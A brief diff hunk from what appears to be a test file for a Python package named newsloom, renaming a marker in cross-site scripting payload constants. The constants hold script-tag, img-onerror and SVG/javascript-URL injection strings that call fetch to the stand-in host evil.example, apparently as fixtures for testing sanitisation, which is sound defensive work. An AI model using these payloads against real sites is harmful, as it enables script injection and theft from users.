@@ -12,7 +12,7 @@ from newsloom.types import Entry, Failure
 
 DAM = "s-82c99982a13e"
 ELSEWHERE = "https://evil.example"
-RUN = "window.ran=1;alert(1);fetch('https://evil.example/x')"
+RUN = "window.hasRun=1;alert(1);fetch('https://evil.example/x')"
 SCRIPT = f"<script>{RUN}</script>"
 IMAGE = f'"><img src=x onerror="{RUN}">'
 SVG = f"</title></textarea></noscript><svg onload=\"{RUN}\"><a href='javascript:{RUN}'>x</a></svg>"
